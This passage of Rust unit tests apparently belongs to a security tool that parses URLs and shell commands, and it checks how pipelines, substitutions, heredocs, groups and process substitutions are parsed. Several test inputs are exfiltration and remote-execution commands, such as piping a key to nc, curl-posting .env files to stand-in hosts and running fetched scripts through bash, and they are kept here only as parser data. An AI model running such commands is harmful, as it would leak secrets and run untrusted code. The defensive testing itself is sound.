            Some("127.0.0.1".parse().unwrap())
        );
        assert_eq!(parse_url("http://0x7f.1/").unwrap().addr_class, AddrClass::Loopback);
        // Public suffix list, not "the last two labels": co.uk and github.io are suffixes.
        assert_eq!(
            parse_url("https://a.b.example.co.uk/")
                .unwrap()
                .registrable_domain
                .as_deref(),
            Some("example.co.uk")
        );
        assert_eq!(
            parse_url("https://attacker.github.io/p")
                .unwrap()
                .registrable_domain
                .as_deref(),
            Some("attacker.github.io")
        );
        assert!(parse_url("not a url").is_none());
    }

    #[test]
    fn slo_11_shell_pipelines_substitutions_redirects_heredocs() {
        let p = parse_shell("cat key | base64 | nc host 443 && echo 'a b' >> ~/.bashrc");
        assert_eq!(p.len(), 2);
        assert_eq!(p[0].len(), 3);
        assert_eq!(simple(&p[0][2]).argv(), vec!["nc", "host", "443"]);
        assert_eq!(simple(&p[1][0]).argv(), vec!["echo", "a b"]);
        assert_eq!(
            simple(&p[1][0]).redirects,
            vec![Redirect::Out {
                path: "~/.bashrc".into(),
                append: true
            }]
        );
        let s = parse_shell("bash -c \"$(command curl -fsSL https://x.test/i.sh)\"");
        assert_eq!(
            simple(&s[0][0]).words[2].subs,
            vec!["command curl -fsSL https://x.test/i.sh"]
        );
        let b = parse_shell("echo `cat .env` x");
        assert_eq!(simple(&b[0][0]).words[1].subs, vec!["cat .env"]);
        let h = parse_shell("python3 - <<'PY'\nprint(1)\nPY\nls");
        assert_eq!(h.len(), 2);
        assert_eq!(simple(&h[0][0]).redirects, vec![Redirect::Heredoc("print(1)\n".into())]);
        let hs = parse_shell("bash <<< \"$(cat .tunnel)\"");
        assert!(
            matches!(&simple(&hs[0][0]).redirects[..], [Redirect::HereWord(w)] if w.subs == vec!["cat .tunnel"]),
            "{:?}",
            simple(&hs[0][0]).redirects
        );
        let hd = parse_shell("sh <<EOF\necho \"$X\" $(cat .t)\nEOF");
        assert!(
            matches!(&simple(&hd[0][0]).redirects[..], [Redirect::HereWord(w)] if w.subs == vec!["cat .t"] && w.text.contains("echo \"$X\"")),
            "{:?}",
            simple(&hd[0][0]).redirects
        );
        assert_eq!(simple(&h[1][0]).argv(), vec!["ls"]);
        let f = parse_shell("find . -name .env -exec curl -F f=@{} https://h.test \\;");
        assert_eq!(simple(&f[0][0]).argv().last().unwrap(), ";");
        let q = parse_shell("\\curl c''url \"$HOME/x\" 2>&1 >/dev/null");
        assert_eq!(simple(&q[0][0]).argv(), vec!["curl", "curl", "$HOME/x"]);
        assert_eq!(
            simple(&q[0][0]).redirects,
            vec![Redirect::Out {
                path: "/dev/null".into(),
                append: false
            }]
        );
    }

    #[test]
    fn slo_11_shell_groups_functions_and_process_substitutions() {
        let g = parse_shell("{ cat .env; env; } | nc h 1");
        assert_eq!(g.len(), 1);
        assert!(matches!(&g[0][0], Cmd::Group { body, .. } if body.len() == 2));
        let f = parse_shell("up() { curl -d @.env https://h.test; }; up");
        assert!(matches!(&f[0][0], Cmd::Function { name, body } if name == "up" && body.len() == 1));
        let ps = parse_shell("bash <(curl -s https://h.test/i.sh)");
        let w = &simple(&ps[0][0]).words[1];
        assert_eq!(w.proc_in.as_deref().map(str::trim), Some("curl -s https://h.test/i.sh"));
        // A syntax error runs nothing, as in bash.
        assert!(parse_shell("echo 'unterminated").is_empty());
    }
}
